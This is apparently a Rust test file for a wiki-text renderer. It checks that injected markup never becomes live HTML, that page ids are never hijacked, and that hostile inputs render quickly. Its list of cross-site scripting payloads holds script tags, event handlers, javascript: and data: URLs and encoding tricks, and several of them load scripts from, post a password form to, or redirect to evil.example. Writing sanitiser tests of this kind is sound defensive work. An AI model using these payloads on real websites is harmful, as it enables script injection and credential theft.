//! Pages that want to do harm.

use crate::hostile_texts::hostile;
use crate::{check, wiki};
use std::time::{Duration, Instant};

/// Things that must never reach a page as markup.
const INJECTIONS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" data:text/html,<script>alert(1)</script>\">x</a>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<b style=\"background:url(javascript:alert(1))\" onclick=alert(1)>x</b>",
    "<div id=main class=menu onfocus=alert(1) tabindex=0>x</div>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=//evil.example><input type=password></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<style>@import '//evil.example/x.css'</style>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "[javascript:alert(1) x]",
    "[http://a.example/\"onmouseover=\"alert(1) x]",
    "[http://a.example'onclick='alert(1) x]",
    "[&#106;avascript:alert(1) x]",
    "[data:text/html;base64,PHNjcmlwdD4= x]",
    "[//evil.example/\u{1}javascript: x]",
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "http://a.example/<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<nowiki><script>alert(1)</script></nowiki>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0}>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "<p/onclick=alert(1)>x",
    "<td onclick=alert(1)>",
    "{{#tag:script|alert(1)}}",
    "\u{202e}<script>\u{2028}",
    "__proto__",
];

/// Places into which they are put; `@` stands for them.
const PLACES: &[&str] = &[
    "@",
    "'''@'' x'''",
    "* @\n** @\n# @",
    "; @ : @",
    " @",
    "== @ ==",
    "[[@]]",
    "[[@|@]]",
    "[[Page#@|x]]",
    "[[:Category:@]]",
    "[[Category:@|@]]",
    "[[w:@|@]]",
    "[[es:@]]",
    "[[prop::@]]",
    "[[File:@|thumb|@]]",
    "[[File:A.png|thumb|alt=@|link=@|@]]",
    "[[File:A.png|@|100px]]",
    "[[Media:@|@]]",
    "[http://a.example/@ @]",
    "[[http://a.example/@ @]]",
    "http://a.example/@",
    "{{@}}",
    "{{Unknown|@|@=@}}",
    "text {{Unknown|@}} text",
    "{{WikiSprint-20M|Name=@|Main URL=@|Contact's person e-mail=@|Topics=@|Related projects=@|Details=@}}",
    "{{MC|mc1=@}}",
    "{{Navigate-Nutshell|@|@|@}}",
    "{{Delete|@}}",
    "{{section|@|@}}",
    "{{#if:@|@|@}}",
    "{{:@}}",
    "{{DEFAULTSORT:@}}",
    "{{{@|@}}}",
    "{|@\n|+@\n|-@\n!@|@!!@\n|-\n|@|@||@\n|}",
    "{| class=\"@\"\n| colspan=\"@\" | @\n|}",
    "<table @><tr @><td colspan=@>@</td></tr></table>",
    "<div @>@</div>",
    "<span id=\"@\" lang=\"@\" title=\"@\">@</span>",
    "<abbr title='@'>@</abbr>",
    "<ol start=\"@\" type=\"@\"><li value=@>@</ol>",
    "<font color=\"@\">@</font>",
    "<ref>@</ref><ref name=\"@\">@</ref><ref name=\"@\" /><ref group=\"@\">x</ref><references />",
    "<references group=\"@\"><ref name=\"@\">@</ref></references>",
    "<gallery caption=\"@\">\nFile:A.png|@\n@|@\n</gallery>",
    "<imagemap>\nFile:A.png|@\nrect 1 2 3 4 [[@|@]]\n@\n</imagemap>",
    "<nowiki>@</nowiki>",
    "<pre>@</pre>",
    "<code>@</code>",
    "<syntaxhighlight lang=\"@\">@</syntaxhighlight>",
    "<math>@</math>",
    "<poem>\n@\n@\n</poem>",
    "<blockquote>@</blockquote>",
    "<html>@</html>",
    "<youtube>@</youtube>",
    "<DynamicPageList>@</DynamicPageList>",
    "<!-- @ -->@",
    "<noinclude>@</noinclude><includeonly>@</includeonly>",
    "<img src=\"http://a.example/@\" alt=\"@\">",
    "<a href=\"http://a.example/@\">@</a>",
    "__@__",
    "#REDIRECT [[@]]",
];

#[test]
fn nothing_injected_anywhere_becomes_markup() {
    for place in PLACES {
        for injection in INJECTIONS {
            let text = place.replace('@', injection);
            let drawn = wiki::draw(&text);
            if let Err(fault) = check::check(&drawn.html) {
                panic!("{fault}\nfrom: {text}\nhtml: {}", drawn.html);
            }
            for entry in &drawn.toc {
                assert!(!entry.html.contains('<'), "{text}");
            }
        }
    }
}

#[test]
fn ids_of_the_page_around_are_never_taken() {
    let names = [
        "main", "q", "menu", "MENU", "toc", "n1", "r1", "r1-2", "cap1",
    ];
    for name in names {
        for place in [
            "<div id=\"@\">x</div>",
            "<span id=@ />",
            "== @ ==",
            "<h2 id='@'>@</h2>",
        ] {
            let text = format!(
                "{} x<ref name=a>b</ref><ref name=a /> {{|\n|+ c\n| d\n|}}",
                place.replace('@', name)
            );
            let seen = check::check(&wiki::draw(&text).html).expect("well-formed, ids once");
            for id in ["main", "q", "menu", "toc"] {
                assert!(
                    !seen.ids.iter().any(|known| known.eq_ignore_ascii_case(id)),
                    "{text}"
                );
            }
        }
    }
}

#[test]
fn no_text_is_slow_or_deep() {
    // 50 kB each; debug builds are some twenty times slower than release ones, and other tests run
    // beside. Anything quadratic takes minutes.
    for (name, text) in hostile(50_000) {
        let start = Instant::now();
        let document = wiki::read(&text);
        let drawn = document.render(&wiki::Wiki::default());
        let _ = (
            document.links(),
            document.categories(),
            document.templates(),
            document.plain_text(),
        );
        let taken = start.elapsed();
        assert!(taken < Duration::from_secs(5), "{name}: {taken:?}");
        assert!(
            drawn.html.len() < text.len() * 60 + 10_000,
            "{name}: {} bytes",
            drawn.html.len()
        );
        if let Err(fault) = check::check(&drawn.html) {
            panic!("{name}: {fault}");
        }
        drop(document);
    }
}
